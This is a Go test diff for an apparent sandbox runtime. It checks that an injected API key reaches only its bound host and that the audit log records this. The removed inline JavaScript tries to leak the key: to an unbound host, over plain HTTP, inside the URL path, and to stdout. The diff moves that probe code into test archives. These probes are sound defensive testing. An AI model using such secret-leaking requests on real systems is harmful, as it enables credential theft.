@@ -16,29 +16,11 @@ import (
 	"github.com/unitask/unitask/image"
 	"github.com/unitask/unitask/internal/attack"
 	"github.com/unitask/unitask/internal/audit"
+	"github.com/unitask/unitask/internal/testarchive"
 	"github.com/unitask/unitask/netstack"
 	"github.com/unitask/unitask/policy"
 	"github.com/unitask/unitask/vmm"
 )
-
-// boundCode sends its key through every HTTP client of Node, prints the responses, and waits for a line before it ends.
-const boundCode = `
-const https = require("https"), { Worker, isMainThread, parentPort } = require("worker_threads");
-const headers = { authorization: "Bearer " + process.env.KEY };
-const ask = (url, h) => fetch(url, { headers: h ?? headers }).then(async (r) => r.status + " " + await r.text(), (e) => e.cause?.code ?? e.message);
-const get = () => new Promise((r) => https.get("https://good.example/key", { headers }, (a) => a.on("data", (d) => r(a.statusCode + " " + d))));
-if (isMainThread) (async () => {
-  console.log("key", process.env.KEY);
-  console.log("fetch", await ask("https://good.example/key"));
-  console.log("https", await get());
-  console.log("worker", await new Promise((r) => new Worker(__filename).on("message", r)));
-  console.log("another host", await ask("https://a.b.wild.example/key"));
-  console.log("in the clear", await ask("http://good.example/key"));
-  console.log("in the path", await ask("https://good.example/key/" + process.env.KEY, {}));
-  console.log("no rule", await ask("https://good.example/big"));
-  console.log("without", await ask("https://good.example/key", {}));
-  process.stdin.once("data", () => process.exit());
-})(); else ask("https://good.example/key").then((a) => parentPort.postMessage(a));`
 
 // A bound secret goes only to its hosts and never enters the machine: not its memory, output or record. If the server
 // quotes it, the placeholder comes back.
@@ -46,6 +28,7 @@ func TestAttackBoundSecret(t *testing.T) {
 	needVM(t)
 	const value = "sk-Vn41xZp0Qw7eRt6y"
 	web := newSite(t)
+	code := testarchive.Open(t, "testdata/boundsecret.txtar").Text("clients.js")
 	for _, kernel := range kernels(t) {
 		t.Run(string(kernel), func(t *testing.T) {
 			home := newHome(t)
@@ -60,12 +43,14 @@ func TestAttackBoundSecret(t *testing.T) {
 			ids := make(chan string, 1)
 			ended := make(chan *unitask.Result, 1)
 			go func() {
-				res, err := rt.Run(t.Context(), unitask.Request{Kernel: kernel, Code: boundCode, CA: web.ca, Timeout: time.Minute, AllowNet: []string{"good.example", "*.wild.example"}, AllowHTTP: []string{"GET good.example/key/**"},
-					Secrets: map[string]string{"KEY": value}, SecretHosts: map[string][]string{"KEY": {"good.example"}}}, unitask.IO{Stdin: stdin, Stdout: out, Events: func(e unitask.Event) {
-					if e.Kind == unitask.EventRecord {
-						ids <- e.Message
-					}
-				}})
+				res, err := rt.Run(t.Context(), unitask.Request{Kernel: kernel, Code: code, CA: web.ca, Timeout: time.Minute,
+					AllowNet: []string{"good.example", "*.wild.example"}, AllowHTTP: []string{"GET good.example/key/**"},
+					Secrets: map[string]string{"KEY": value}, SecretHosts: map[string][]string{"KEY": {"good.example"}}},
+					unitask.IO{Stdin: stdin, Stdout: out, Events: func(e unitask.Event) {
+						if e.Kind == unitask.EventRecord {
+							ids <- e.Message
+						}
+					}})
 				if err != nil {
 					t.Errorf("%v %+v", err, res)
 				}
@@ -83,16 +68,20 @@ func TestAttackBoundSecret(t *testing.T) {
 
 			placeholder := out.has["key"]
 			with := "200 with the key; you sent Bearer " + placeholder
-			for what, want := range map[string]string{"fetch": with, "https": with, "worker": with, "without": "200 no key; you sent "} {
+			for what, want := range map[string]string{"fetch": with, "https": with, "worker": with,
+				"without": "200 no key; you sent "} {
 				if out.has[what] != want {
 					t.Errorf("%s: %q, want %q", what, out.has[what], want)
 				}
 			}
 			attack.Check(t, "a placeholder of another length", fmt.Sprint(len(value)), fmt.Sprint(len(placeholder)))
-			attack.Check(t, "the key for a host that it is not bound to", "200 no key; you sent Bearer "+placeholder, out.has["another host"])
+			attack.Check(t, "the key for a host that it is not bound to", "200 no key; you sent Bearer "+placeholder,
+				out.has["another host"])
 			attack.Check(t, "the key in the clear", "403", out.has["in the clear"][:3])
 			attack.Check(t, "the key where it is not put", "403", out.has["in the path"][:3])
-			attack.Check(t, "a request that no rule allows", "403 unitask: GET good.example/big: no rule allows this method and path (GET good.example/key/**): --allow-http 'GET good.example/big' asks for it (over MCP allowHttp)", out.has["no rule"])
+			attack.Check(t, "a request that no rule allows",
+				"403 unitask: GET good.example/big: no rule allows this method and path (GET good.example/key/**): "+
+					"--allow-http 'GET good.example/big' asks for it (over MCP allowHttp)", out.has["no rule"])
 			if !bytes.Contains(memory, []byte(placeholder)) {
 				t.Error("the dump does not even hold the placeholder")
 			}
@@ -104,15 +93,7 @@ func TestAttackBoundSecret(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			asked, refused := 0, 0
-			for _, d := range all.Decisions {
-				if d.Proto == "http" && d.Verdict == netstack.Denied && d.Path == "/big" && d.Rule == "GET good.example/key/**" && d.Status == 403 {
-					refused++
-				}
-				if d.Proto == "http" && d.Verdict == unitask.Allowed && strings.Join(d.Secrets, "") == "KEY" && d.Redacted > 0 && d.Path == "/key" {
-					asked++
-				}
-			}
+			asked, refused := boundRequests(all.Decisions)
 			if asked != 3 {
 				t.Errorf("%d requests with the key in the netlog: %+v", asked, all.Decisions)
 			}
@@ -170,7 +151,8 @@ func loggedSecret(t *testing.T, rt *unitask.Runtime, id, value string) {
 		t.Error(err)
 	}
 	if got, want := strings.Join(logged, "; "),
-		`run.started; secret.granted {"hosts":["good.example"],"secret":"KEY"}; secret.used {"hosts":{"KEY":["good.example"]}}; net.refused; run.ended`; got != want {
+		`run.started; secret.granted {"hosts":["good.example"],"secret":"KEY"}; `+
+			`secret.used {"hosts":{"KEY":["good.example"]}}; net.refused; run.ended`; got != want {
 		t.Errorf("the audit log has %s, want %s", got, want)
 	}
 	if n, err := rt.Audit().Verify("", ""); int(n) != len(logged) || err != nil {
@@ -178,14 +160,29 @@ func loggedSecret(t *testing.T, rt *unitask.Runtime, id, value string) {
 	}
 }
 
+// boundRequests counts the requests of the netlog with the key, and those that no rule allows.
+func boundRequests(decisions []netstack.Decision) (asked, refused int) {
+	for _, d := range decisions {
+		switch {
+		case d.Proto != "http":
+		case d.Verdict == netstack.Denied:
+			if d.Path == "/big" && d.Rule == "GET good.example/key/**" && d.Status == 403 {
+				refused++
+			}
+		case d.Verdict == unitask.Allowed:
+			if d.Path == "/key" && strings.Join(d.Secrets, "") == "KEY" && d.Redacted > 0 {
+				asked++
+			}
+		}
+	}
+	return asked, refused
+}
+
 // Child processes trust the run's authority, too.
 func TestBoundSecretInChildren(t *testing.T) {
 	needVM(t)
 	web := newSite(t)
-	const code = `
-const { fork } = require("child_process");
-if (process.argv[2]) fetch("https://good.example/key", { headers: { authorization: "Bearer " + process.env.KEY } }).then((r) => r.text()).catch((e) => e.cause.code).then((s) => process.send(s.slice(0, 12)));
-else fork(__filename, ["child"]).on("message", (s) => console.log(s));`
+	code := testarchive.Open(t, "testdata/boundsecretchildren.txtar").Text("child.js")
 	res, err := unitask.Run(t.Context(), unitask.Request{Kernel: image.Linux, AllowNet: []string{"good.example"},
 		CA: web.ca, Code: code, Timeout: time.Minute,
 		Secrets: map[string]string{"KEY": "sk-Vn41xZp0Qw7eRt6y"}, SecretHosts: map[string][]string{"KEY": {"good.example"}}},
@@ -195,7 +192,7 @@ else fork(__filename, ["child"]).on("message", (s) => console.log(s));`
 	}
 }
 
-// lines reads the output of boundCode: a name and a value on each line, with "without" last.
+// lines reads the output of clients.js: a name and a value on each line, with "without" last.
 type lines struct {
 	text string
 	has  map[string]string
